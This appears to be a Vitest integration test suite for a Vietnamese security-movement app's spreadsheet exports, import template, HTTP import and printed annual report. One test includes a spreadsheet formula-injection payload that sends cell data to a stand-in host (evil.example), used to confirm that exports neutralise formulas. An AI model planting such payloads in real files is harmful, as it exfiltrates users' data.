import { spawn, type ChildProcess } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { openDatabase } from '@antoan/db/client';
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { PDFParse } from 'pdf-parse';
import { chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

// The exports, the import template, the import over HTTP and the printed report, against the real server
// process with the demo data (SQLite, or a fresh PostgreSQL database when DATABASE_URL is set).

const mainFile = fileURLToPath(new URL('../main.ts', import.meta.url));
const artefacts = fileURLToPath(new URL('../../test-results/', import.meta.url));
const ADMIN_PASSWORD = 'mật khẩu quản trị';
const OFFICER_PASSWORD = 'mật khẩu cán bộ xã';

interface Started {
  child: ChildProcess;
  baseUrl: string;
  exited: Promise<number | null>;
}

function startServer(env: Record<string, string>): Promise<Started> {
  const child = spawn(process.execPath, ['--import', 'tsx', mainFile], {
    env: { PATH: process.env.PATH, HOME: process.env.HOME, PORT: '0', ...env },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let output = '';
  const exited = new Promise<number | null>((resolve) => child.on('exit', (code) => resolve(code)));
  return new Promise((resolve, reject) => {
    const onData = (chunk: Buffer) => {
      output += chunk.toString();
      const match = /listening on (http:\/\/[^\s]+)/.exec(output);
      if (match) resolve({ child, baseUrl: match[1]!, exited });
    };
    child.stdout.on('data', onData);
    child.stderr.on('data', onData);
    void exited.then((code) => reject(new Error(`server exited with ${code}: ${output}`)));
    setTimeout(() => reject(new Error(`server did not start: ${output}`)), 60_000).unref();
  });
}

/** A fresh PostgreSQL database for the server when DATABASE_URL is set, dropped at the end. */
async function databaseFor(): Promise<{ env: Record<string, string>; drop: () => Promise<void> }> {
  const url = process.env.DATABASE_URL;
  if (!url) return { env: {}, drop: () => Promise.resolve() };
  const name = `antoan_docs_${randomBytes(5).toString('hex')}`;
  const admin = openDatabase({ databaseUrl: url, poolSize: 1 });
  await sql.raw(`create database ${name}`).execute(admin.db);
  const own = new URL(url);
  own.pathname = `/${name}`;
  return {
    env: { DATABASE_URL: own.toString() },
    drop: async () => {
      await sql.raw(`drop database if exists ${name} with (force)`).execute(admin.db);
      await admin.destroy();
    },
  };
}

let server: Started;
let db: Awaited<ReturnType<typeof databaseFor>>;
const dataDir = mkdtempSync(path.join(tmpdir(), 'antoan-docs-'));
const staticDir = mkdtempSync(path.join(tmpdir(), 'antoan-docs-static-'));
let adminCookie: string;
let officerCookie: string;
let baDon: number;
let province: number;

async function signIn(username: string, password: string): Promise<string> {
  const res = await fetch(`${server.baseUrl}/trpc/auth.login`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', Origin: server.baseUrl },
    body: JSON.stringify({ username, password }),
  });
  expect(res.status).toBe(200);
  return (res.headers.get('set-cookie') ?? '').split(';')[0]!;
}

async function trpc<T>(cookie: string, procedure: string, input: unknown, method: 'GET' | 'POST' = 'POST'): Promise<T> {
  const res =
    method === 'GET'
      ? await fetch(`${server.baseUrl}/trpc/${procedure}?input=${encodeURIComponent(JSON.stringify(input))}`, {
          headers: { Cookie: cookie },
        })
      : await fetch(`${server.baseUrl}/trpc/${procedure}`, {
          method: 'POST',
          headers: { 'Content-Type': 'application/json', Origin: server.baseUrl, Cookie: cookie },
          body: JSON.stringify(input),
        });
  const body = (await res.json()) as { result?: { data: T }; error?: unknown };
  if (!body.result) throw new Error(`${procedure} failed: ${JSON.stringify(body.error)}`);
  return body.result.data;
}

async function workbookOf(res: Response): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await res.arrayBuffer());
  return workbook;
}

/** The rows of a sheet as arrays of cell values (index 0 = column A). */
function rowsOf(sheet: ExcelJS.Worksheet): unknown[][] {
  const rows: unknown[][] = [];
  sheet.eachRow({ includeEmpty: true }, (row, n) => {
    rows[n - 1] = (row.values as unknown[]).slice(1);
  });
  return Array.from(rows, (r) => r ?? []);
}

beforeAll(async () => {
  writeFileSync(path.join(staticDir, 'index.html'), '<!doctype html><title>An Toàn</title>');
  db = await databaseFor();
  server = await startServer({ DATA_DIR: dataDir, STATIC_DIR: staticDir, ADMIN_PASSWORD, ...db.env });
  adminCookie = await signIn('admin', ADMIN_PASSWORD);
  const tree = await trpc<{
    roots: {
      id: number;
      code: string;
      children: { id: number; code: string; children: { id: number; code: string }[] }[];
    }[];
  }>(adminCookie, 'areas.tree', { date: '2021-12-31' }, 'GET');
  province = tree.roots.find((r) => r.code === 'QB')!.id;
  baDon = tree.roots.flatMap((r) => r.children).find((a) => a.code === 'QB-BD')!.id;
  const quangThuy = tree.roots
    .flatMap((r) => r.children)
    .flatMap((a) => a.children)
    .find((a) => a.code === 'QB-BD-QTHUY')!.id;
  await trpc(adminCookie, 'users.create', {
    username: 'xa.quangthuy',
    displayName: 'Công an xã Quảng Thủy',
    password: OFFICER_PASSWORD,
    role: 'commune_officer',
    areaId: quangThuy,
  });
  officerCookie = await signIn('xa.quangthuy', OFFICER_PASSWORD);
}, 120_000);

afterAll(async () => {
  server?.child.kill('SIGTERM');
  await server?.exited;
  await db?.drop();
  rmSync(dataDir, { recursive: true, force: true });
  rmSync(staticDir, { recursive: true, force: true });
}, 60_000);

describe('the XLSX exports', () => {
  it('asks anonymous callers to sign in, in both languages', async () => {
    const res = await fetch(`${server.baseUrl}/export/units.xlsx?area=${baDon}&year=2021`);
    expect(res.status).toBe(401);
    expect(await res.json()).toEqual({
      error: {
        code: 'UNAUTHORIZED',
        message: 'Please sign in.',
        text: { vi: 'Vui lòng đăng nhập.', en: 'Please sign in.' },
      },
    });
  });

  it('refuses a session whose one-time password is not changed yet, as every tRPC call does', async () => {
    const created = await trpc<{ oneTimePassword: string }>(adminCookie, 'users.create', {
      username: 'moi.vao',
      displayName: 'Người mới',
      role: 'viewer',
      areaId: baDon,
      unitId: null,
      email: null,
    });
    const cookie = await signIn('moi.vao', created.oneTimePassword);
    for (const path of [
      `/export/statistics.xlsx?area=${baDon}&year=2021`,
      `/print/annual-report?area=${baDon}&year=2021`,
    ]) {
      const res = await fetch(`${server.baseUrl}${path}`, { headers: { Cookie: cookie } });
      expect(res.status).toBe(403);
      expect(await res.text()).toContain('Bạn cần đổi mật khẩu dùng một lần trước khi tiếp tục.');
    }
  });

  it("refuses a bad query, an area outside the caller's scope and an unknown area before streaming", async () => {
    const bad = await fetch(`${server.baseUrl}/export/units.xlsx?area=abc&year=1800`, {
      headers: { Cookie: adminCookie },
    });
    expect(bad.status).toBe(400);
    const body = (await bad.json()) as { error: { fieldErrors: { path: string }[] } };
    expect(body.error.fieldErrors.map((e) => e.path).sort()).toEqual(['area', 'year']);
    const outside = await fetch(`${server.baseUrl}/export/statistics.xlsx?area=${baDon}&year=2021`, {
      headers: { Cookie: officerCookie },
    });
    expect(outside.status).toBe(403);
    expect(((await outside.json()) as { error: { text: { vi: string } } }).error.text.vi).toBe(
      'Dữ liệu này nằm ngoài địa bàn bạn được giao.',
    );
    expect(
      (await fetch(`${server.baseUrl}/export/units.xlsx?area=999999&year=2021`, { headers: { Cookie: adminCookie } }))
        .status,
    ).toBe(404);
    expect((await fetch(`${server.baseUrl}/export/nothing.xlsx`, { headers: { Cookie: adminCookie } })).status).toBe(
      404,
    );
  });

  it('exports the statistics table of the article: 15/16 communes, 92/95 villages, 21 models, 4 new', async () => {
    const res = await fetch(`${server.baseUrl}/export/statistics.xlsx?area=${baDon}&year=2021`, {
      headers: { Cookie: adminCookie },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const disposition = res.headers.get('content-disposition')!;
    expect(disposition).toBe(
      `attachment; filename="Thong ke phong trao Thi xa Ba Don nam 2021.xlsx"; filename*=UTF-8''${encodeURIComponent('Thống kê phong trào Thị xã Ba Đồn năm 2021.xlsx')}`,
    );
    const sheet = (await workbookOf(res)).getWorksheet('Thống kê')!;
    // One page wide (fitToWidth counts only with fitToPage), in landscape: the table is wider than A4 portrait.
    expect(sheet.pageSetup).toMatchObject({ fitToPage: true, fitToWidth: 1, fitToHeight: 0, orientation: 'landscape' });
    const rows = rowsOf(sheet);
    expect(rows[0]![0]).toBe('KẾT QUẢ PHONG TRÀO TOÀN DÂN BẢO VỆ AN NINH TỔ QUỐC NĂM 2021');
    // The catalogue's title names the standard once: no "Tiêu chuẩn … theo Tiêu chuẩn …".
    expect(rows[1]![0]).toMatch(
      /^Địa bàn: Thị xã Ba Đồn, Tỉnh Quảng Bình\. Tiêu chuẩn "An toàn về an ninh, trật tự" theo Thông tư 23\/2012\/TT-BCA\. Số liệu tính ngày \d{2}\/\d{2}\/\d{4}\.$/,
    );
    expect(String(rows[1]![0]).match(/Tiêu chuẩn/g)).toHaveLength(1);
    expect(rows[3]).toEqual([
      'STT',
      'Loại đơn vị',
      'Tổng số',
      'Không thuộc diện',
      'Thuộc diện xét',
      'Đã đăng ký',
      'Đạt',
      'Đạt / thuộc diện',
      'Tỷ lệ đạt',
    ]);
    const figures: Record<string, unknown> = Object.fromEntries(rows.slice(4, 9).map((r) => [String(r[1]), r[7]]));
    expect(figures).toEqual({
      'Xã, phường, thị trấn': '15/16',
      'Khu dân cư': '92/95',
      'Cơ quan': '22/22',
      'Doanh nghiệp': '22/22',
      'Cơ sở giáo dục': '58/58',
    });
    expect(rows[4]![8]).toBeCloseTo(0.9375);
    const model = (label: string) => rows.find((r) => r[1] === label)?.[2];
    expect([model('Mô hình đang hoạt động'), model('Mô hình mới xây dựng trong năm')]).toEqual([21, 4]);
    expect(rows.some((r) => r[1] === 'Giám đốc Công an tỉnh Quảng Bình')).toBe(true);
  });

  it('exports the units with their computed results, the criteria, the models and the awards', async () => {
    const get = (kind: string, query = `area=${baDon}&year=2021`) =>
      fetch(`${server.baseUrl}/export/${kind}.xlsx?${query}`, { headers: { Cookie: adminCookie } });
    const units = rowsOf((await workbookOf(await get('units'))).worksheets[0]!);
    expect(units[3]!.slice(0, 8)).toEqual([
      'STT',
      'Mã đơn vị',
      'Tên đơn vị',
      'Loại',
      'Địa bàn',
      'Cấp trên',
      'Cấp quản lý',
      'Kết quả năm 2021',
    ]);
    const data = units.slice(4);
    expect(data).toHaveLength(213);
    const failing = data
      .filter((r) => r[7] === 'Chưa đạt')
      .map((r) => r[1])
      .sort();
    expect(failing).toHaveLength(4);
    expect(failing).toContain('XA-QB-BD-QTIEN');
    const village = data.find((r) => r[1] === 'KDC-QB-BD-QTIEN-3')!;
    expect(village.slice(3, 9)).toEqual([
      'Khu dân cư',
      'Xã Quảng Tiên',
      'Thị xã Ba Đồn',
      'Cấp xã',
      'Chưa đạt',
      'KDC-3',
    ]);
    const recognised = data.find((r) => r[10] === 'Đã công nhận')!;
    expect(recognised[12]).toBeInstanceOf(Date);

    const criteria = rowsOf((await workbookOf(await get('assessments'))).worksheets[0]!);
    expect(criteria[3]!.slice(5, 9)).toEqual(['Mã tiêu chí', 'Tiêu chí', 'Trả lời', 'Kết quả tiêu chí']);
    const dispute = criteria.find((r) => r[0] === 'KDC-QB-BD-QTIEN-3' && r[5] === 'KDC-3')!;
    expect(dispute[8]).toBe('Không đạt');

    const models = rowsOf((await workbookOf(await get('models'))).worksheets[0]!);
    expect(models.slice(4).filter((r) => r[10] === 'Đang hoạt động')).toHaveLength(21);
    const awards = rowsOf((await workbookOf(await get('awards'))).worksheets[0]!);
    expect(awards.slice(4)).toHaveLength(12);
    expect(awards[4]![9]).toBeInstanceOf(Date);
  });

  it('imports over HTTP and exports a formula-like name as text that no spreadsheet runs', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
    const csv = [
      // dated units: they exist from 2020, so the 2021 export lists them
      'Mã đơn vị,Tên đơn vị,Loại đơn vị,Mã địa bàn,Cấp quản lý,Thuộc lực lượng vũ trang,Quy mô doanh nghiệp,Cấp học,Hiệu lực từ ngày',
      `DN-QB-LT-1,"${evil.replace(/"/g, '""')}",DN,QB-LT,Cấp tỉnh,,Lớn,,01/01/2020`,
      'DN-QB-LT-2,+84 912 345 678,DN,QB-LT,Cấp tỉnh,,Vừa,,01/01/2020',
    ].join('\r\n');
    const areas =
      'Mã địa bàn,Tên địa bàn,Loại địa bàn,Mã địa bàn cấp trên,Hiệu lực từ ngày\nQB-LT,Lệ Thủy,Huyện,QB,01/01/2000\n';
    const base64 = (text: string) => Buffer.from(`\uFEFF${text}`).toString('base64');
    const areaResult = await trpc<{ applied: boolean }>(adminCookie, 'imports.commit', {
      format: 'csv',
      fileName: 'dia-ban.csv',
      contentBase64: base64(areas),
    });
    expect(areaResult.applied).toBe(true);
    const dry = await trpc<{ errors: unknown[]; counts: { units: { create: number } } }>(
      adminCookie,
      'imports.dryRun',
      { format: 'csv', fileName: 'don-vi.csv', contentBase64: base64(csv) },
    );
    expect(dry).toMatchObject({ errors: [], counts: { units: { create: 2 } } });
    await trpc(adminCookie, 'imports.commit', { format: 'csv', fileName: 'don-vi.csv', contentBase64: base64(csv) });

    const res = await fetch(`${server.baseUrl}/export/units.xlsx?area=${province}&year=2021`, {
      headers: { Cookie: adminCookie },
    });
    const sheet = (await workbookOf(res)).worksheets[0]!;
    let found = 0;
    sheet.eachRow((row) => {
      const code = row.getCell(2).value;
      if (code !== 'DN-QB-LT-1' && code !== 'DN-QB-LT-2') return;
      found++;
      const name = row.getCell(3);
      expect(name.type).toBe(ExcelJS.ValueType.String);
      expect(name.formula).toBeUndefined();
      expect(name.value).toBe(code === 'DN-QB-LT-1' ? evil : '+84 912 345 678');
    });
    expect(found).toBe(2);
  });
});

describe('the import template', () => {
  it('serves an XLSX with instructions, Vietnamese headers and the accepted values, and a CSV header', async () => {
    const res = await fetch(`${server.baseUrl}/export/template.xlsx`, { headers: { Cookie: adminCookie } });
    expect(res.status).toBe(200);
    const workbook = await workbookOf(res);
    expect(workbook.worksheets.map((s) => s.name)).toEqual([
      'Hướng dẫn',
      'Địa bàn',
      'Đơn vị',
      'Sắp xếp địa bàn',
      'Danh mục',
    ]);
    // every sheet prints one page wide
    for (const sheet of workbook.worksheets)
      expect(sheet.pageSetup).toMatchObject({ fitToPage: true, fitToWidth: 1, fitToHeight: 0 });
    expect(rowsOf(workbook.getWorksheet('Đơn vị')!)[0]).toEqual([
      'Mã đơn vị *',
      'Tên đơn vị *',
      'Loại đơn vị *',
      'Mã địa bàn *',
      'Cấp quản lý',
      'Thuộc lực lượng vũ trang',
      'Quy mô doanh nghiệp',
      'Cấp học',
      'Hiệu lực từ ngày',
    ]);
    const instructions = rowsOf(workbook.getWorksheet('Hướng dẫn')!);
    expect(instructions.some((r) => r[0] === 'KDC-QB-BD-QMOI-1' && r[1] === 'Thôn Tây Bắc')).toBe(true);
    const csv = await fetch(`${server.baseUrl}/export/template.csv?table=areas`, { headers: { Cookie: adminCookie } });
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(await csv.arrayBuffer())).toBe(
      '\uFEFFMã địa bàn *,Tên địa bàn *,Loại địa bàn *,Mã địa bàn cấp trên,Hiệu lực từ ngày,Hiệu lực đến ngày\r\n',
    );
    const reorganisations = await fetch(`${server.baseUrl}/export/template.csv?table=reorganisations`, {
      headers: { Cookie: adminCookie },
    });
    expect(reorganisations.status).toBe(200);
    expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(await reorganisations.arrayBuffer())).toBe(
      '\uFEFFLoại sắp xếp *,Mã địa bàn cũ *,Mã địa bàn mới,Tên địa bàn mới,Loại địa bàn mới,Mã địa bàn cấp trên mới,Ngày hiệu lực *,Số nghị quyết *,Ngày nghị quyết *\r\n',
    );
    expect(instructions.some((r) => r[0] === 'Sáp nhập' && r[1] === 'QB-BD-QTHUY; QB-BD-QVAN')).toBe(true);
  });
});

describe('the printed annual report', () => {
  it('is refused to anonymous callers', async () => {
    const res = await fetch(`${server.baseUrl}/print/annual-report?area=${baDon}&year=2021`);
    expect(res.status).toBe(401);
    expect(await res.text()).toBe('Vui lòng đăng nhập.\nPlease sign in.\n');
  });

  it('prints to an A4 PDF in Chromium with the title, the Ba Đồn figures of 2021 and the signature block', async () => {
    const browser = await chromium.launch({
      executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium',
      headless: true,
      args: [
        '--no-sandbox',
        '--disable-gpu',
        '--disable-quic',
        '--no-first-run',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
      ],
    });
    try {
      const context = await browser.newContext();
      const [name, value] = adminCookie.split('=') as [string, string];
      await context.addCookies([{ name, value, url: server.baseUrl, httpOnly: true, sameSite: 'Strict' }]);
      const page = await context.newPage();
      const problems: string[] = [];
      page.on('console', (message) => message.type() === 'error' && problems.push(message.text()));
      const response = await page.goto(`${server.baseUrl}/print/annual-report?area=${baDon}&year=2021&lang=vi`);
      expect(response?.status()).toBe(200);
      expect(await page.title()).toContain('BÁO CÁO');
      const pdf = await page.pdf({ format: 'A4', printBackground: true });
      mkdirSync(artefacts, { recursive: true });
      writeFileSync(path.join(artefacts, 'annual-report-ba-don-2021.pdf'), pdf);
      expect(problems).toEqual([]);

      const parser = new PDFParse({ data: new Uint8Array(pdf) });
      const text = (await parser.getText()).text.replace(/\s+/g, ' ');
      await parser.destroy();
      for (const expected of [
        'CÔNG AN TỈNH QUẢNG BÌNH',
        'CÔNG AN THỊ XÃ BA ĐỒN',
        'CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM',
        'Độc lập - Tự do - Hạnh phúc',
        'Ba Đồn, ngày',
        'BÁO CÁO',
        'Kết quả phong trào Toàn dân bảo vệ an ninh Tổ quốc năm 2021',
        '15/16 xã, phường, thị trấn; 92/95 khu dân cư; 22/22 cơ quan; 22/22 doanh nghiệp và 58/58 cơ sở giáo dục',
        '21 mô hình phong trào đang hoạt động (trong đó 4 mô hình mới',
        'Giám đốc Công an tỉnh Quảng Bình',
        'Nơi nhận:',
        'TRƯỞNG CÔNG AN THỊ XÃ',
        '(Ký, ghi rõ họ tên, đóng dấu)',
        // the units that failed, with their reasons (the incidents of their window), the grades, the incidents
        'II. CÁC ĐƠN VỊ CHƯA ĐẠT VÀ LÝ DO',
        'Có 4 đơn vị đã đăng ký xây dựng nhưng chưa đạt tiêu chuẩn.',
        'Xã Quảng Tiên',
        '12/08/2021 (KDC-3 e): Tranh chấp đất đai giữa các hộ dân kéo dài, phức tạp',
        'III. XẾP LOẠI',
        'IV. VỤ VIỆC VỀ AN NINH, TRẬT TỰ',
        'V. MÔ HÌNH PHONG TRÀO',
        'VI. KHEN THƯỞNG',
      ]) {
        expect(text).toContain(expected);
      }
      for (const figure of ['15/16', '92/95', '22/22', '58/58']) expect(text).toContain(figure);
    } finally {
      await browser.close();
    }
  }, 120_000);

  it('escapes what it prints and answers in English on request', async () => {
    const res = await fetch(`${server.baseUrl}/print/annual-report?area=${province}&year=2021&lang=en`, {
      headers: { Cookie: adminCookie },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-security-policy')).toContain("script-src 'self'");
    const html = await res.text();
    expect(html).toContain('SOCIALIST REPUBLIC OF VIET NAM');
    expect(html).not.toMatch(/<script/i);
    expect(html).toContain('<b>DIRECTOR</b>');
    expect(html).toContain('In 2021, in Tỉnh Quảng Bình, 15/16 communes');
    for (const heading of [
      'II. UNITS THAT DID NOT MEET THE STANDARD, AND WHY',
      'III. GRADES',
      'IV. SECURITY AND ORDER',
    ])
      expect(html).toContain(heading);
    expect(html).toContain('Reason (incidents in the window)');
  });
});
